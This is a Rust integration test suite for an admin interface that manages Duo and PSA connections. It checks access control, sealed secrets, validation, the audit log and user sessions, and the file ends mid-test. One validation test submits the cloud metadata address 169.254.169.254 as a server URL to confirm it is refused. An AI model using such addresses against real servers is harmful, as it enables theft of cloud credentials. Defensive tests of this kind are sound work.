//! Administration over real HTTP: admin-only access, validation, sealed secrets, the audit log
//! and its CSV export, Duo and ConnectWise tests against the simulators.
mod support;

use std::time::Duration;

use app::model::Role;
use deskproof::psa::{CompanyId, ContactId};
use deskproof::sim::duo::SimUser;
use serde_json::Value;
use support::flow::{spawn_flow, FlowApp};

const ADMIN: (&str, &str) = ("robin.admin", "admin password 4567");

/// A signed-in admin's client for `app`.
async fn admin_client(app: &FlowApp) -> reqwest::Client {
    if app
        .store
        .user_by_username(ADMIN.0)
        .await
        .expect("user")
        .is_none()
    {
        deskproof::auth::create_user(&app.store, ADMIN.0, "Robin Admin", Role::Admin, ADMIN.1)
            .await
            .expect("admin");
    }
    let client = support::new_client();
    let res = client
        .post(format!("{}/api/sign_in", app.url))
        .header("Accept", "application/json")
        .form(&[("username", ADMIN.0), ("password", ADMIN.1)])
        .send()
        .await
        .expect("sign in");
    assert_eq!(res.status(), 200);
    client
}

/// Calls an admin server function with form fields; returns status and JSON body.
async fn call(
    client: &reqwest::Client,
    url: &str,
    function: &str,
    form: &[(&str, &str)],
) -> (u16, Value) {
    let res = client
        .post(format!("{url}/api/admin/{function}"))
        .header("Accept", "application/json")
        .form(form)
        .send()
        .await
        .expect("request");
    let status = res.status().as_u16();
    let text = res.text().await.expect("body");
    (
        status,
        serde_json::from_str(&text).unwrap_or(Value::String(text)),
    )
}

async fn ok(client: &reqwest::Client, url: &str, function: &str, form: &[(&str, &str)]) -> Value {
    let (status, body) = call(client, url, function, form).await;
    assert_eq!(status, 200, "{function}: {body}");
    body
}

async fn settings(client: &reqwest::Client, url: &str) -> Value {
    ok(client, url, "settings", &[]).await
}

fn org_id(settings: &Value, name: &str) -> i64 {
    settings["organizations"]
        .as_array()
        .expect("organizations")
        .iter()
        .find(|o| o["name"] == name)
        .and_then(|o| o["id"].as_i64())
        .unwrap_or_else(|| panic!("no organization {name}: {settings}"))
}

#[tokio::test]
async fn a_technician_gets_403_from_every_admin_page_function_and_the_export() {
    let app = spawn_flow().await; // its client is signed in as a technician
    let orgs_before = app.count("SELECT COUNT(*) FROM organizations").await;
    for page in [
        "/settings",
        "/settings/organizations",
        "/settings/organizations/1",
        "/settings/connections",
        "/settings/policy",
        "/settings/users",
        "/audit",
        "/audit/ticket/1",
        "/audit/ticket/1/1",
        "/audit/export.csv",
    ] {
        let res = app
            .client
            .get(format!("{}{page}", app.url))
            .send()
            .await
            .expect("request");
        assert_eq!(res.status(), 403, "{page}");
    }
    for (function, form) in [
        ("settings", vec![]),
        ("save_organization", vec![("id", ""), ("name", "Evil Corp")]),
        ("save_duo", vec![("organization_id", "1")]),
        ("test_duo", vec![("organization_id", "1")]),
        ("save_policy", vec![("organization_id", "")]),
        ("add_user", vec![]),
        ("set_user_disabled", vec![("id", "1"), ("disabled", "true")]),
        (
            "reset_password",
            vec![("id", "1"), ("password", "0123456789ab")],
        ),
        ("audit", vec![]),
        (
            "ticket_timeline",
            vec![("connection", "1"), ("ticket", "1")],
        ),
        ("test_connection", vec![("id", "1")]),
        ("connect_psa", vec![("id", "1")]),
        (
            "save_mapping",
            vec![
                ("connection_id", "1"),
                ("company_id", "9"),
                ("organization_id", "1"),
            ],
        ),
        (
            "remove_mapping",
            vec![("connection_id", "1"), ("company_id", "250")],
        ),
        (
            "save_connection",
            vec![("id", ""), ("kind", "connectwise"), ("name", "x")],
        ),
    ] {
        let (status, body) = call(&app.client, &app.url, function, &form).await;
        assert_eq!(status, 403, "{function}: {body}");
    }
    // Arguments the function could not even read are refused as the caller's, not the form's.
    for (function, form) in [
        ("save_organization", vec![("nonsense", "1")]),
        ("set_user_disabled", vec![("id", "not a number")]),
        ("reset_password", vec![]),
    ] {
        let (status, body) = call(&app.client, &app.url, function, &form).await;
        assert_eq!(status, 403, "{function}: {body}");
        assert_eq!(
            body, "ServerError|You are not allowed to do that.",
            "{function}"
        );
    }
    let orgs = app.count("SELECT COUNT(*) FROM organizations").await;
    assert_eq!(orgs, orgs_before, "nothing was created");

    // Without a session the pages send the browser to sign in; an admin gets them.
    let anonymous = support::new_client();
    let res = anonymous
        .get(format!("{}/settings/users", app.url))
        .send()
        .await
        .expect("request");
    assert_eq!(res.status(), 303);
    assert_eq!(
        res.headers()["location"].to_str().expect("location"),
        "/signin?next=/settings/users"
    );
    // A filtered page comes back with its filters.
    let res = anonymous
        .get(format!("{}/audit?organization=3&outcome=denied", app.url))
        .send()
        .await
        .expect("request");
    assert_eq!(
        res.headers()["location"].to_str().expect("location"),
        "/signin?next=/audit%3Forganization%3D3%26outcome%3Ddenied"
    );
    let admin = admin_client(&app).await;
    let res = admin
        .get(format!("{}/settings/users", app.url))
        .send()
        .await
        .expect("request");
    assert_eq!(res.status(), 200);
}

#[tokio::test]
async fn saved_secrets_are_never_in_the_database_file_nor_sent_back() {
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let url = &app.url;
    let secrets = [
        "duo-auth-secret-7f3a9c1e5b",
        "duo-admin-secret-2d8e6f4a0c",
        "cw-private-key-9b1d3f5h7j",
        "new user password 8c6e4a",
        "reset password 5e7g9i1k3m",
        "at-api-secret-4h6j8k0m2n",
        "at-webhook-secret-3p5r7t9v",
        "fd-api-key-1x3z5b7d9f",
        "fd-webhook-secret-8g0i2k4m",
        "halo-client-secret-6o8q0s2u",
        "halo-webhook-secret-5w7y9a1c",
    ];
    ok(
        &admin,
        url,
        "save_organization",
        &[("id", ""), ("name", "Fabrikam")],
    )
    .await;
    let org = org_id(&settings(&admin, url).await, "Fabrikam").to_string();
    let reply = ok(
        &admin,
        url,
        "save_duo",
        &[
            ("organization_id", &org),
            ("fields[api_host]", "api-12345678.duosecurity.com"),
            ("fields[auth_ikey]", "DIAUTHAUTHAUTHAUTH01"),
            ("fields[auth_skey]", secrets[0]),
            ("fields[admin_ikey]", "DIADMINADMINADMIN001"),
            ("fields[admin_skey]", secrets[1]),
        ],
    )
    .await;
    assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
    let reply = ok(
        &admin,
        url,
        "save_connection",
        &[
            ("id", ""),
            ("kind", "connectwise"),
            ("name", "Second tenant"),
            (
                "fields[base_url]",
                "https://cw.example.com/v4_6_release/apis/3.0",
            ),
            ("fields[company_id]", "fabrikam"),
            ("fields[public_key]", "pubkey123"),
            ("fields[private_key]", secrets[2]),
            ("fields[client_id]", "client-1"),
        ],
    )
    .await;
    assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
    for form in [
        [
            ("kind", "autotask"),
            ("name", "Autotask tenant"),
            ("fields[username]", "api@fabrikam.example"),
            ("fields[secret]", secrets[5]),
            ("fields[integration_code]", "INTEGRATIONCODE1"),
            ("fields[webhook_secret]", secrets[6]),
        ],
        [
            ("kind", "freshdesk"),
            ("name", "Freshdesk tenant"),
            ("fields[base_url]", "https://fabrikam.freshdesk.com"),
            ("fields[api_key]", secrets[7]),
            ("fields[webhook_secret]", secrets[8]),
            ("fields[webhook_header]", "X-Webhook-Token"),
        ],
        [
            ("kind", "halopsa"),
            ("name", "HaloPSA tenant"),
            ("fields[auth_url]", "https://fabrikam.halopsa.com/auth"),
            ("fields[api_url]", "https://fabrikam.halopsa.com/api"),
            ("fields[client_secret]", secrets[9]),
            ("fields[webhook_secret]", secrets[10]),
        ],
    ] {
        let mut form = form.to_vec();
        form.push(("id", ""));
        if form[0].1 == "halopsa" {
            form.push(("fields[client_id]", "deskproof-app"));
        }
        let reply = ok(&admin, url, "save_connection", &form).await;
        assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
    }
    let reply = ok(
        &admin,
        url,
        "add_user",
        &[
            ("fields[username]", "jo.tech"),
            ("fields[display_name]", "Jo Tech"),
            ("fields[role]", "technician"),
            ("fields[password]", secrets[3]),
        ],
    )
    .await;
    assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
    let view = settings(&admin, url).await;
    let jo = view["users"]
        .as_array()
        .expect("users")
        .iter()
        .find(|u| u["username"] == "jo.tech")
        .and_then(|u| u["id"].as_i64())
        .expect("jo")
        .to_string();
    ok(
        &admin,
        url,
        "reset_password",
        &[("id", &jo), ("password", secrets[4])],
    )
    .await;

    // The settings view says which secrets are set, never what they are.
    let view = settings(&admin, url).await;
    let text = view.to_string();
    for secret in secrets {
        assert!(!text.contains(secret), "settings view leaks {secret}");
    }
    let fabrikam = view["organizations"]
        .as_array()
        .expect("organizations")
        .iter()
        .find(|o| o["name"] == "Fabrikam")
        .expect("Fabrikam")
        .clone();
    assert_eq!(fabrikam["duo"]["auth_skey_set"], true);
    assert_eq!(fabrikam["duo"]["admin_skey_set"], true);
    let second = view["connections"]
        .as_array()
        .expect("connections")
        .iter()
        .find(|c| c["name"] == "Second tenant")
        .expect("connection")
        .clone();
    assert_eq!(second["secrets_set"]["private_key"], true);
    for (name, fields) in [
        ("Autotask tenant", ["secret", "webhook_secret"]),
        ("Freshdesk tenant", ["api_key", "webhook_secret"]),
        ("HaloPSA tenant", ["client_secret", "webhook_secret"]),
    ] {
        let conn = view["connections"]
            .as_array()
            .expect("connections")
            .iter()
            .find(|c| c["name"] == name)
            .expect("connection")
            .clone();
        for f in fields {
            assert_eq!(conn["secrets_set"][f], true, "{name}: {conn}");
        }
    }

    // Saving again with blank secret fields keeps the stored ones.
    let reply = ok(
        &admin,
        url,
        "save_duo",
        &[
            ("organization_id", &org),
            ("fields[api_host]", "api-87654321.duosecurity.com"),
            ("fields[auth_ikey]", "DIAUTHAUTHAUTHAUTH01"),
            ("fields[auth_skey]", ""),
            ("fields[admin_ikey]", "DIADMINADMINADMIN001"),
            ("fields[admin_skey]", ""),
        ],
    )
    .await;
    assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
    let row = app
        .store
        .duo_account(org.parse().expect("id"))
        .await
        .expect("read")
        .expect("account");
    let key = deskproof::crypto::MasterKey::load_or_create(&app.dir.path().join("master.key"))
        .expect("the master key beside the database");
    assert_eq!(
        key.open(&row.auth_skey_sealed).expect("opens").expose(),
        secrets[0]
    );
    assert_eq!(row.api_host, "api-87654321.duosecurity.com");

    // Every byte SQLite wrote: the database, its write-ahead log and shared memory.
    sqlx::query("PRAGMA wal_checkpoint(PASSIVE)")
        .execute(&app.db)
        .await
        .expect("checkpoint");
    let mut bytes = Vec::new();
    for entry in std::fs::read_dir(app.dir.path()).expect("dir") {
        let path = entry.expect("entry").path();
        let name = path.file_name().and_then(|n| n.to_str()).unwrap_or("");
        if name.starts_with("deskproof.db") {
            bytes.extend(std::fs::read(&path).expect("read"));
        }
    }
    assert!(bytes.len() > 4096, "the database was read");
    let haystack = String::from_utf8_lossy(&bytes);
    assert!(
        haystack.contains("DIAUTHAUTHAUTHAUTH01"),
        "non-secret keys are stored"
    );
    for secret in secrets {
        assert!(
            !haystack.contains(secret),
            "{secret} is stored in clear text"
        );
    }
}

#[tokio::test]
async fn a_name_typed_with_other_case_or_accent_composition_is_the_same_name() {
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let url = &app.url;
    let save = |name: &'static str| {
        let admin = admin.clone();
        async move {
            ok(
                &admin,
                url,
                "save_organization",
                &[("id", ""), ("name", name)],
            )
            .await
        }
    };
    let taken = "An organization with this name already exists.";
    let fine = |reply: serde_json::Value| {
        reply["errors"]
            .as_object()
            .is_none_or(|errors| errors.is_empty())
    };

    assert!(fine(save("\u{c9}clair").await));
    assert_eq!(save("\u{e9}clair").await["errors"]["name"], taken);
    assert!(fine(save("Caf\u{e9}").await));
    assert_eq!(save("Cafe\u{301}").await["errors"]["name"], taken);
    assert_eq!(save("CAF\u{c9}").await["errors"]["name"], taken);

    let names: Vec<String> = app
        .store
        .organizations()
        .await
        .expect("organizations")
        .into_iter()
        .map(|o| o.name)
        .filter(|n| n.contains("clair") || n.starts_with("Caf"))
        .collect();
    assert_eq!(names.len(), 2, "{names:?}");
    // Renaming an organization to its own name in other case is allowed.
    let cafe = app
        .store
        .organizations()
        .await
        .expect("organizations")
        .into_iter()
        .find(|o| o.name == "Caf\u{e9}")
        .expect("caf\u{e9}")
        .id
        .to_string();
    let reply = ok(
        &admin,
        url,
        "save_organization",
        &[("id", &cafe), ("name", "CAF\u{c9}")],
    )
    .await;
    assert!(fine(reply.clone()), "{reply}");
}

#[tokio::test]
async fn forms_name_each_bad_field_and_store_nothing_half_way() {
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let url = &app.url;
    let audit_before = app.count("SELECT COUNT(*) FROM audit_log").await;
    let orgs_before = app.count("SELECT COUNT(*) FROM organizations").await;
    let connections_before = app.count("SELECT COUNT(*) FROM psa_connections").await;

    let reply = ok(
        &admin,
        url,
        "save_organization",
        &[("id", ""), ("name", "  ")],
    )
    .await;
    assert_eq!(reply["errors"]["name"], "Enter a name.");
    let reply = ok(
        &admin,
        url,
        "save_organization",
        &[("id", ""), ("name", "contoso")],
    )
    .await;
    assert_eq!(
        reply["errors"]["name"],
        "An organization with this name already exists."
    );

    let org = app.world.organization_id.to_string();
    let reply = ok(
        &admin,
        url,
        "save_duo",
        &[
            ("organization_id", &org),
            ("fields[api_host]", "not a host/with path"),
            ("fields[auth_ikey]", ""),
            ("fields[auth_skey]", "new secret"),
            ("fields[admin_ikey]", "DIADMIN"),
            ("fields[admin_skey]", ""),
        ],
    )
    .await;
    let errors = reply["errors"].as_object().expect("errors");
    assert!(errors.contains_key("api_host"), "{reply}");
    assert_eq!(reply["errors"]["auth_ikey"], "Enter the integration key.");
    assert!(
        errors.contains_key("auth_skey"),
        "a space is refused: {reply}"
    );
    assert!(
        !errors.contains_key("admin_skey"),
        "blank keeps the stored key"
    );

    let reply = ok(
        &admin,
        url,
        "save_policy",
        &[
            ("organization_id", &org),
            ("fields[push_timeout_secs]", "5"),
            ("fields[pushes_per_ticket]", "many"),
            ("fields[verified_minutes]", "-1"),
        ],
    )
    .await;
    assert_eq!(
        reply["errors"]["pushes_per_ticket"],
        "Enter a whole number."
    );
    assert_eq!(
        reply["errors"]["push_timeout_secs"],
        "Must be between 30 and 600."
    );
    assert_eq!(
        reply["errors"]["verified_minutes"],
        "Must be between 0 and 1440."
    );
    let reply = ok(
        &admin,
        url,
        "save_policy",
        &[
            ("organization_id", &org),
            ("fields[push_timeout_secs]", "5"),
        ],
    )
    .await;
    assert_eq!(
        reply["errors"]["push_timeout_secs"],
        "Must be between 30 and 600."
    );

    let reply = ok(
        &admin,
        url,
        "save_connection",
        &[
            ("id", ""),
            ("kind", "connectwise"),
            ("name", "Broken"),
            ("fields[base_url]", "ftp://cw.example.com"),
            ("fields[company_id]", "acme"),
        ],
    )
    .await;
    for f in ["base_url", "public_key", "private_key", "client_id"] {
        assert!(reply["errors"].get(f).is_some(), "{f}: {reply}");
    }
    // Keys go to another machine over HTTPS only: plain http is for the local simulators.
    let reply = ok(
        &admin,
        url,
        "save_connection",
        &[
            ("id", ""),
            ("kind", "freshdesk"),
            ("name", "Metadata"),
            ("fields[base_url]", "http://169.254.169.254"),
            ("fields[api_key]", "freshdesk-key-1234"),
        ],
    )
    .await;
    assert!(
        reply["errors"]["base_url"]
            .as_str()
            .is_some_and(|e| e.contains("https")),
        "{reply}"
    );
    let reply = ok(
        &admin,
        url,
        "save_duo",
        &[
            ("organization_id", &org),
            ("fields[api_host]", "http://10.0.0.8:8080"),
        ],
    )
    .await;
    assert!(
        reply["errors"]["api_host"]
            .as_str()
            .is_some_and(|e| e.contains("HTTPS")),
        "{reply}"
    );
    let reply = ok(
        &admin,
        url,
        "add_user",
        &[
            ("fields[username]", "bad name!"),
            ("fields[role]", "owner"),
            ("fields[password]", "short"),
        ],
    )
    .await;
    for f in ["username", "role", "password"] {
        assert!(reply["errors"].get(f).is_some(), "{f}: {reply}");
    }

    // Nothing above was stored, and so nothing was audited.
    assert_eq!(
        app.count("SELECT COUNT(*) FROM organizations").await,
        orgs_before
    );
    assert_eq!(
        app.count("SELECT COUNT(*) FROM psa_connections").await,
        connections_before
    );
    assert_eq!(app.count("SELECT COUNT(*) FROM users").await, 2);
    assert_eq!(
        app.count("SELECT COUNT(*) FROM duo_accounts WHERE api_host LIKE '%not a host%'")
            .await,
        0
    );
    assert_eq!(
        app.count("SELECT COUNT(*) FROM audit_log").await,
        audit_before
    );
}

#[tokio::test]
async fn duo_test_passes_with_the_simulator_keys_and_names_the_failure_with_wrong_ones() {
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let url = &app.url;
    let org = app.world.organization_id.to_string();
    let reply = ok(&admin, url, "test_duo", &[("organization_id", &org)]).await;
    assert_eq!(reply["ok"], true, "{reply}");
    assert!(
        reply["lines"][1]
            .as_str()
            .unwrap_or("")
            .contains("Admin API"),
        "{reply}"
    );

    let (auth, admin_keys) = (app.world.duo.auth_keys(), app.world.duo.admin_keys());
    let reply = ok(
        &admin,
        url,
        "save_duo",
        &[
            ("organization_id", &org),
            ("fields[api_host]", &auth.api_host),
            ("fields[auth_ikey]", &auth.ikey),
            (
                "fields[auth_skey]",
                "wrong-secret-key-000000000000000000000000",
            ),
            ("fields[admin_ikey]", &admin_keys.ikey),
            ("fields[admin_skey]", ""),
        ],
    )
    .await;
    assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
    let reply = ok(&admin, url, "test_duo", &[("organization_id", &org)]).await;
    assert_eq!(reply["ok"], false, "{reply}");
    assert_eq!(reply["message"], "Duo refused the keys.");
    let auth_line = reply["lines"][0].as_str().unwrap_or("");
    assert!(
        auth_line.starts_with("Auth API:") && auth_line.contains("40103"),
        "{reply}"
    );
    assert!(
        reply["lines"][1]
            .as_str()
            .unwrap_or("")
            .contains("keys accepted"),
        "{reply}"
    );
}

#[tokio::test]
async fn connectwise_test_and_one_click_connect_against_the_simulator() {
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let url = &app.url;
    let id = app.world.connection_id.to_string();
    let reply = ok(&admin, url, "test_connection", &[("id", &id)]).await;
    assert_eq!(reply["ok"], true, "{reply}");

    // The pod needs the ticket screen id; save it (the private key stays as stored).
    let cw = app.world.cw.client_config();
    let reply = ok(
        &admin,
        url,
        "save_connection",
        &[
            ("id", &id),
            ("kind", "connectwise"),
            ("name", "ConnectWise (simulator)"),
            ("fields[base_url]", cw.base_url.as_str()),
            ("fields[company_id]", &cw.company_id),
            ("fields[public_key]", &cw.public_key),
            ("fields[private_key]", ""),
            ("fields[client_id]", &cw.client_id),
            ("fields[pod_screen_id]", "42"),
        ],
    )
    .await;
    assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
    let reply = ok(&admin, url, "connect_psa", &[("id", &id)]).await;
    assert_eq!(reply["ok"], true, "{reply}");
    let callbacks = app.world.cw.callbacks();
    let expected = format!("{url}/hooks/connectwise/{id}?recordId=");
    assert_eq!(
        callbacks.iter().filter(|c| c.url == expected).count(),
        1,
        "{callbacks:?}"
    );
    let setups = app.world.cw.hosted_setups();
    assert_eq!(setups.len(), 1, "{setups:?}");
    assert_eq!(setups[0].screen_id, 42);
    assert_eq!(setups[0].kind, "Pod");
    assert!(
        reply.to_string().contains("Created ticket callback"),
        "{reply}"
    );

    // The simulator checks a hosted setup the way ConnectWise does.
    let client = deskproof::psa::connectwise::ConnectWiseClient::new(cw.clone()).expect("client");
    for (screen_id, url) in [
        (0, "https://deskproof.example/pod"),
        (42, "ftp://deskproof.example"),
    ] {
        let bad = deskproof::psa::connectwise::model::HostedSetup {
            id: None,
            screen_id,
            description: "deskproof".into(),
            url: url.into(),
            kind: "Pod".into(),
            origin: None,
            pod_height: None,
            disabled_flag: None,
        };
        let refused = client.register_hosted_setup(&bad).await;
        assert!(
            matches!(
                refused,
                Err(deskproof::psa::PsaError::Rejected { status: 400, .. })
            ),
            "{refused:?}"
        );
    }

    // A second click creates nothing new.
    let reply = ok(&admin, url, "connect_psa", &[("id", &id)]).await;
    assert!(reply.to_string().contains("already registered"), "{reply}");
    assert_eq!(app.world.cw.callbacks().len(), callbacks.len());
    assert_eq!(app.world.cw.hosted_setups().len(), 1);

    // A wrong private key: the test shows ConnectWise's refusal.
    let reply = ok(
        &admin,
        url,
        "save_connection",
        &[
            ("id", &id),
            ("kind", "connectwise"),
            ("name", "ConnectWise (simulator)"),
            ("fields[base_url]", cw.base_url.as_str()),
            ("fields[company_id]", &cw.company_id),
            ("fields[public_key]", &cw.public_key),
            ("fields[private_key]", "wrong-private-key"),
            ("fields[client_id]", &cw.client_id),
        ],
    )
    .await;
    assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
    let reply = ok(&admin, url, "test_connection", &[("id", &id)]).await;
    assert_eq!(reply["ok"], false, "{reply}");
    assert_eq!(
        reply["message"],
        "ConnectWise refused: the PSA rejected the API credentials"
    );
}

#[tokio::test]
async fn an_organization_set_up_by_an_admin_verifies_and_everything_is_audited() {
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let url = &app.url;
    // A second client company in the PSA, with a contact who has a Duo user.
    let company: CompanyId = app.world.cw.add_company("Fabrikam, \"Inc\"");
    let contact: ContactId = app.world.cw.add_contact_at(
        Some(company),
        "Adele",
        "Vance",
        "adele.vance@fabrikam.example",
    );
    app.world.duo.add_user(
        SimUser::new("adele.vance")
            .name("Adele", "Vance")
            .email("adele.vance@fabrikam.example")
            .push_phone("+15555550301"),
    );

    ok(
        &admin,
        url,
        "save_organization",
        &[("id", ""), ("name", "Fabrikam, \"Inc\"")],
    )
    .await;
    let org = org_id(&settings(&admin, url).await, "Fabrikam, \"Inc\"");
    let org_s = org.to_string();
    let company_s = company.to_string();
    let connection = app.world.connection_id.to_string();
    let reply = ok(
        &admin,
        url,
        "save_mapping",
        &[
            ("connection_id", &connection),
            ("company_id", &company_s),
            ("organization_id", &org_s),
        ],
    )
    .await;
    assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
    let (auth, admin_keys) = (app.world.duo.auth_keys(), app.world.duo.admin_keys());
    ok(
        &admin,
        url,
        "save_duo",
        &[
            ("organization_id", &org_s),
            ("fields[api_host]", &auth.api_host),
            ("fields[auth_ikey]", &auth.ikey),
            ("fields[auth_skey]", auth.skey.expose()),
            ("fields[admin_ikey]", &admin_keys.ikey),
            ("fields[admin_skey]", admin_keys.skey.expose()),
        ],
    )
    .await;

    // A ticket from that company is verified against that organization.
    let ticket = app
        .world
        .cw
        .create_ticket(Some(company), Some(contact), "New laptop for Adele")
        .await
        .id;
    let token = app.link_token(ticket).await;
    let case = app.case_of(ticket).await.expect("case");
    assert_eq!(case.organization_id, Some(org));
    app.send_push(&token).await;
    app.world
        .duo
        .wait_for_push("adele.vance", Duration::from_secs(5))
        .await
        .expect("push");
    app.world
        .duo
        .approve_latest("adele.vance")
        .expect("approve");
    let outcome = app.wait_for_outcome(&token).await;
    assert_eq!(outcome["state"], "approved");

    // The audit log holds the admin's changes and the verification, filterable.
    let listing = ok(&admin, url, "audit", &[("query[organization]", &org_s)]).await;
    assert_eq!(
        listing["total"].as_i64(),
        listing["rows"].as_array().map(|r| r.len() as i64),
        "{listing}"
    );
    let rows = listing["rows"].as_array().expect("rows").clone();
    let actions: Vec<&str> = rows.iter().filter_map(|r| r["action"].as_str()).collect();
    for action in [
        "organization created",
        "company mapped",
        "Duo account saved",
        "push sent",
        "push answered",
    ] {
        assert!(
            actions.contains(&action),
            "{action} missing from {actions:?}"
        );
    }
    let answered = rows
        .iter()
        .find(|r| r["action"] == "push answered")
        .expect("answered");
    assert_eq!(answered["actor"], "Casey Tech");
    assert_eq!(answered["ticket"], ticket.to_string());
    assert_eq!(answered["contact"], "Adele Vance");
    assert_eq!(answered["duo_user"], "adele.vance");
    assert_eq!(answered["outcome"], "approved");
    assert!(answered["txid"].as_str().is_some_and(|t| !t.is_empty()));
    let approved = ok(
        &admin,
        url,
        "audit",
        &[
            ("query[outcome]", "approved"),
            ("query[technician]", "casey"),
        ],
    )
    .await;
    assert_eq!(
        approved["rows"].as_array().map(Vec::len),
        Some(1),
        "{approved}"
    );
    let none = ok(
        &admin,
        url,
        "audit",
        &[("query[from]", "2000-01-01"), ("query[to]", "2000-01-02")],
    )
    .await;
    assert_eq!(none["rows"].as_array().map(Vec::len), Some(0), "{none}");
    let timeline = ok(
        &admin,
        url,
        "ticket_timeline",
        &[("connection", &connection), ("ticket", &ticket.to_string())],
    )
    .await;
    let steps: Vec<&str> = timeline
        .as_array()
        .expect("timeline")
        .iter()
        .filter_map(|r| r["action"].as_str())
        .collect();
    assert_eq!(steps, ["push sent", "push answered"]);

    // CSV export: a plain GET for admins, fields quoted by the csv rules.
    let res = admin
        .get(format!("{url}/audit/export.csv?organization={org}"))
        .send()
        .await
        .expect("export");
    assert_eq!(res.status(), 200);
    assert!(res.headers()["content-type"]
        .to_str()
        .unwrap_or("")
        .starts_with("text/csv"));
    let body = res.text().await.expect("csv");
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let headers = reader.headers().expect("headers").clone();
    assert_eq!(headers.get(4), Some("organization"));
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
    assert_eq!(records.len(), rows.len());
    assert!(records
        .iter()
        .all(|r| r.get(4) == Some("Fabrikam, \"Inc\"")));
    assert!(body.contains("\"Fabrikam, \"\"Inc\"\"\""), "quoted: {body}");
    assert!(records.iter().any(|r| r.get(8) == Some("approved")));

    // The log cannot be changed afterwards.
    let update = sqlx::query("UPDATE audit_log SET outcome = 'denied'")
        .execute(&app.db)
        .await;
    assert!(update.is_err(), "the audit log is append-only");
}

#[tokio::test]
async fn users_are_added_disabled_and_given_new_passwords() {
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let url = &app.url;
    ok(
        &admin,
        url,
        "add_user",
        &[
            ("fields[username]", "sam.tech"),
            ("fields[display_name]", "Sam Tech"),
            ("fields[role]", "technician"),
            ("fields[password]", "first password 1"),
        ],
    )
    .await;
    let id = app
        .store
        .user_by_username("sam.tech")
        .await
        .expect("read")
        .expect("sam")
        .id
        .to_string();
    let sam = support::new_client();
    let sign_in = |client: reqwest::Client, password: &'static str| {
        let url = url.clone();
        async move {
            client
                .post(format!("{url}/api/sign_in"))
                .header("Accept", "application/json")
                .form(&[("username", "sam.tech"), ("password", password)])
                .send()
                .await
                .expect("sign in")
                .status()
                .as_u16()
        }
    };
    assert_eq!(sign_in(sam.clone(), "first password 1").await, 200);
    ok(
        &admin,
        url,
        "set_user_disabled",
        &[("id", &id), ("disabled", "true")],
    )
    .await;
    let (status, _) = call(&sam, url, "settings", &[]).await;
    assert_eq!(status, 401, "a disabled user's session ends");
    assert_ne!(
        sign_in(support::new_client(), "first password 1").await,
        200
    );
    ok(
        &admin,
        url,
        "set_user_disabled",
        &[("id", &id), ("disabled", "false")],
    )
    .await;
    let reply = ok(
        &admin,
        url,
        "reset_password",
        &[("id", &id), ("password", "short")],
    )
    .await;
    assert!(reply["errors"]["password"].is_string(), "{reply}");
    let reply = ok(
        &admin,
        url,
        "reset_password",
        &[("id", &id), ("password", "            ")],
    )
    .await;
    assert!(reply["errors"]["password"].is_string(), "{reply}");
    assert_eq!(sign_in(sam.clone(), "first password 1").await, 200);
    let (status, _) = call(&sam, url, "settings", &[]).await;
    assert_eq!(status, 403, "signed in again as a technician");
    ok(
        &admin,
        url,
        "reset_password",
        &[("id", &id), ("password", "second password 2")],
    )
    .await;
    let (status, _) = call(&sam, url, "settings", &[]).await;
    assert_eq!(
        status, 401,
        "a new password ends the sessions begun with the old one"
    );
    assert_ne!(
        sign_in(support::new_client(), "first password 1").await,
        200
    );
    assert_eq!(
        sign_in(support::new_client(), "second password 2").await,
        200
    );
    let me = app
        .store
        .user_by_username(ADMIN.0)
        .await
        .expect("read")
        .expect("admin")
        .id
        .to_string();
    let (status, body) = call(
        &admin,
        url,
        "set_user_disabled",
        &[("id", &me), ("disabled", "true")],
    )
    .await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(
        body["errors"]["disabled"], "You cannot disable your own account.",
        "{body}"
    );
    // An admin who sets their own password stays signed in where they did it, and only there.
    let other_admin_session = admin_client(&app).await;
    ok(
        &admin,
        url,
        "reset_password",
        &[("id", &me), ("password", "a new admin password")],
    )
    .await;
    let (status, body) = call(&admin, url, "settings", &[]).await;
    assert_eq!(status, 200, "{body}");
    let (status, _) = call(&other_admin_session, url, "settings", &[]).await;
    assert_eq!(status, 401);
    let audit = app
        .count("SELECT COUNT(*) FROM audit_log WHERE action IN ('user added', 'user disabled', 'user enabled', 'password reset')")
        .await;
    assert_eq!(audit, 5);
}

#[tokio::test]
async fn policies_save_only_what_was_set_and_organizations_can_be_renamed() {
    let app = spawn_flow().await;
    let admin = admin_client(&app).await;
    let url = &app.url;
    let org = app.world.organization_id;
    let org_s = org.to_string();
    let reply = ok(
        &admin,
        url,
        "save_policy",
        &[
            ("organization_id", &org_s),
            ("fields[push_timeout_secs]", "90"),
            ("fields[pod_enabled]", "yes"),
            ("fields[pushes_per_ticket]", ""),
        ],
    )
    .await;
    assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
    let reply = ok(
        &admin,
        url,
        "save_policy",
        &[("organization_id", ""), ("fields[pushes_per_ticket]", "2")],
    )
    .await;
    assert_eq!(reply["errors"], serde_json::json!({}), "{reply}");
    let own = app.store.policy_settings(Some(org)).await.expect("policy");
    assert_eq!(own.push_timeout_secs, Some(90));
    assert_eq!(own.pod_enabled, Some(true));
    assert_eq!(own.pushes_per_ticket, None, "blank inherits");
    let defaults = app.store.policy_settings(None).await.expect("defaults");
    let policy = deskproof::policy::Policy::default()
        .with(&defaults)
        .with(&own);
    assert_eq!(policy.pushes_per_ticket, 2, "the default applies");
    assert_eq!(policy.push_timeout_secs, 90);
    let view = settings(&admin, url).await;
    assert_eq!(view["policy_defaults"]["pushes_per_ticket"], "2");
    assert_eq!(view["organizations"][0]["policy"]["pod_enabled"], "yes");

